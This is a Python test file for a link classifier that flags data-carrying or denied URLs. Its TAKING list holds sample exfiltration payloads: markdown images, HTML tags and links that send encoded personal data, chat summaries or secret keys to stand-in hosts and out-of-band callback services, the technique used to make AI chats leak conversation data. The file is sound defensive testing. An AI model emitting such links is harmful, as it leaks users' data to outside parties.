"""Links that are denied, and links that take data along."""

from __future__ import annotations

import re

import pytest
import re2
from hypothesis import given
from hypothesis import strategies as st

from bedrock_weir.classifiers.content import links
from bedrock_weir.classifiers.content.hosts import HostList
from bedrock_weir.classifiers.rule import HORIZON, Form, Match

BYTES = re2.Options()
BYTES.encoding = re2.Options.Encoding.LATIN1
ENCODED = "SmFuZSBEb2UgaGFzIGFjY291bnQgMTIz"


def found(text, rules=links.RULES):
    """Return the class and text of what rules find."""
    data = text.encode()
    result = set()
    for rule in rules:
        for match in re2.compile(rule.pattern.encode(), BYTES).finditer(data):
            start, end = match.span(min(1, match.re.groups))
            before = data[max(0, start - HORIZON) : start].lower().decode("latin-1")
            for item in rule.read(Match(data[start:end].decode("latin-1"), before)):
                value = data[start + item.start : start + item.end].decode()
                result.add((item.data_class, value))
    return result


TAKING = [
    f"![ ](https://a.example/i.png?data={ENCODED})",
    f"![{'a' * 200}](https://a.example/i.png?data={ENCODED})",
    f"![ok](<https://a.example/i.png?x={ENCODED}>)",
    f"![ok](//a.example/{ENCODED}.png)",
    f"[more]( https://a.example/?q={ENCODED} )",
    f"[1]: https://a.example/?payload={ENCODED}",
    f'<img alt="" src="https://a.example/?d={ENCODED}">',
    f"<IMG SRC=https://a.example/?d={ENCODED}>",
    f'<a href="https://a.example/go?secret={ENCODED}">here</a>',
    f"<div style=\"background:url('https://a.example/?d={ENCODED}')\">",
    f"<https://a.example/?payload={ENCODED}>",
    "![x](https://a.example/log?q={conversation})",
    "![x](https://a.example/log?q=[SUMMARY OF THE CHAT])",
    "![x](https://a.example/log?q=<secret key>)",
    "![x](https://a.example/the+user+wants+to+sell+the+house+in+may)",
    "![x](https://a.example/?mail=jane.doe%40shop.example)",
    f"![x](https://{ENCODED.lower()}.a.example/i.png)",
    "see https://a1b2.oast.fun/",
    "![x](https://my-hook.m.pipedream.net/a.png)",
]

PLAIN = [
    "![logo](https://img.example/static/logo-2x.png?w=320&h=200&v=3)",
    "![build](https://img.shields.example/badge/build-passing-green.svg)",
    "[guide](https://docs.example/en/latest/how-to-configure-the-queue.html#step-2)",
    "[change](https://git.example/a/b/commit/9fceb02d0ae598e95dc970b74767f19372d61af8)",
    "https://video.example/watch?v=dQw4w9WgXcQ&t=42",
    "[item](https://shop.example/p/123e4567-e89b-12d3-a456-426614174000)",
    "call https://api.example/v1/users/{user_id}/orders?limit=10 with a token",
    "![local](images/chart.png) and [anchor](#part-2)",
]


@pytest.mark.parametrize("text", TAKING)
def test_a_link_that_takes_data_along_is_found(text):
    """Images, links, references and mark-up, however they are written."""
    assert {data_class for data_class, _ in found(text)} == {links.EXFILTRATION_LINK}


@pytest.mark.parametrize("text", PLAIN)
def test_an_ordinary_link_is_not(text):
    """Sizes, titles, commits and identifiers are what links are made of."""
    assert found(text) == set()


def test_an_image_needs_less_than_a_link():
    """The same URL is found as an image and not as a link."""
    url = "https://a.example/r?log=4711%20Main"
    assert found(f"![x]({url})")
    assert not found(f"[x]({url})")


def test_the_allow_list_is_trusted():
    """Hosts that are allowed may be given anything."""
    rules = links.rules(HostList(allow=("a.example",)))
    assert found(TAKING[0], rules) == set()
    other = TAKING[0].replace("a.example", "a.example@b.example")
    assert {item for item, _ in found(other, rules)} == {
        links.DENIED_URL,
        links.EXFILTRATION_LINK,
    }


def test_denied_urls_are_found_wherever_they_stand():
    """The finding is the URL, without the sentence's full stop."""
    rules = links.rules(HostList(deny=("evil.example",)))
    text = "Look at https://good.example@x.evil.example/a. Or //evil.example/b!"
    assert found(text, rules) == {
        (links.DENIED_URL, "https://good.example@x.evil.example/a")
    }
    assert found("(//evil.example/b)", rules) == {
        (links.DENIED_URL, "//evil.example/b")
    }


def test_text_of_a_link_is_not_its_target():
    """A URL as the text of a link does not swallow the one behind it."""
    text = f"[https://good.example](https://a.example/?payload={ENCODED})"
    assert found(text) == {
        (links.EXFILTRATION_LINK, f"https://a.example/?payload={ENCODED}")
    }


PIECES = st.lists(
    st.sampled_from(
        [
            *TAKING,
            *PLAIN,
            *["http", "s://", "//", "](", "=", '"', " ", "<", "a.example", "?q=", "}"],
        ]
    ),
    max_size=5,
)


@given(PIECES, st.data())
def test_every_beginning_of_a_match_is_open(parts, data):
    """At any cut within a match the opening reaches from its beginning to the cut."""
    text = "".join(parts).encode()
    for rule in links.RULES:
        assert isinstance(rule, Form)
        opening = re.compile(rf"(?:{rule.opening})\Z".encode("latin-1"))
        for match in re2.compile(rule.pattern.encode(), BYTES).finditer(text):
            cut = data.draw(st.integers(match.start() + 1, match.end()))
            assert opening.match(text[match.start() : cut])
